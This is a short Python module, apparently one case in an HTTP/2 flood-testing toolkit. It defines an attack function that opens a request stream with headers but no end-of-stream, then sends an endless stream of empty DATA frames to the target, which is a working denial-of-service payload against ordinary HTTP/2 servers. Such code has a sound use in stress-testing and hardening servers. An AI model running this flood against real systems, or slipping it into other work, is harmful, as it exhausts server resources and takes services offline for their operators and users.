# SPDX-License-Identifier: Apache-2.0
"""DATA without a byte and without an end, on a request that waits for its body."""
import itertools

from lib.flood import headers, request_block
from lib.http2 import DATA, END_HEADERS, frame


def attack(target):
    return target.flood(lambda: itertools.repeat(frame(DATA, 0, 1) * 100), headers(1, request_block(), END_HEADERS))
